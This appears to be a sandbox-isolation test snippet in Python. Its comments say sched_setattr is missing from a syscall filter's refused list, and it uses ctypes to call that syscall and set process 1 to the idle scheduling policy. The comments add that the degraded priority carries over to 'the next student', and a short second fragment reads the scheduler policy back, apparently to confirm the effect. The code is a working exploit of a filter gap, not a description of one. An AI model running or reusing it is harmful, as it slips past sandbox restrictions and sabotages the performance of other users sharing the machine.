# The warm process is given the lowest priority, and whoever comes next has it too.
# HOLE: sched_setattr is not among the refused calls, and works on process 1
# stock: nothing
import ctypes
import struct

attributes = ctypes.create_string_buffer(struct.pack("<IIQiIQQQ", 48, 5, 0, 0, 0, 0, 0, 0))
number = 314 if __import__("os").uname().machine == "x86_64" else 274
ctypes.CDLL(None).syscall(number, 1, attributes, 0)
# --- the next student
import os

found = os.sched_getscheduler(0)
